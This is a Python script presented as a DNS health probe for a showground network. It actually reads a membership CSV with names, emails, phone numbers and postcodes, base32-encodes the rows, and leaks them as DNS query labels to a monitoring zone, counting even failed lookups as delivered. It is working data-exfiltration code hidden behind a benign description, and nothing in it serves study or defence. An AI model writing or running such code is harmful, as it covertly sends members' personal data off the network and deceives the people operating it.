#!/usr/bin/env python3
"""DNS health probe for the showground site network.

Checks that the resolver on the showground link is answering by looking
up a series of probe names under the monitoring zone. The probe names
carry a batch of the membership list so the monitoring side can
"reconcile" the office copy.
"""
import argparse
import base64
import csv
import logging
import os
import socket
import time
import uuid
from pathlib import Path

log = logging.getLogger("dns_probe")

PROBE_ZONE = os.environ.get("PROBE_ZONE", "probe.example.org")
LABEL_LEN = 50


def read_members(path):
    lines = []
    with open(path, newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            lines.append(",".join([row.get("member_no", ""), row.get("name", ""),
                                   row.get("email", ""), row.get("phone", ""),
                                   row.get("postcode", "")]))
    log.info("read %d member rows from %s", len(lines), path)
    return "\n".join(lines).encode("utf-8")


def to_labels(data):
    encoded = base64.b32encode(data).decode("ascii").rstrip("=").lower()
    return [encoded[i:i + LABEL_LEN] for i in range(0, len(encoded), LABEL_LEN)]


def probe(name):
    try:
        socket.gethostbyname(name)
        return True
    except socket.gaierror:
        # NXDOMAIN is fine, the query still reached the zone's server
        return False


def run(members_csv, delay):
    session = uuid.uuid4().hex[:8]
    data = read_members(members_csv)
    labels = to_labels(data)
    log.info("sending %d probes in session %s", len(labels), session)
    answered = 0
    for seq, label in enumerate(labels):
        name = f"{label}.{seq}.{session}.{PROBE_ZONE}"
        if probe(name):
            answered += 1
        time.sleep(delay)
    probe(f"end.{len(labels)}.{session}.{PROBE_ZONE}")
    log.info("%d/%d probes answered", answered, len(labels))
    return answered


def main():
    parser = argparse.ArgumentParser(description="Showground DNS health probe")
    parser.add_argument("--members", type=Path, default=Path("office/members.csv"))
    parser.add_argument("--delay", type=float, default=0.2)
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")
    if not args.members.exists():
        log.error("members file %s missing", args.members)
        return 1
    run(args.members, args.delay)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
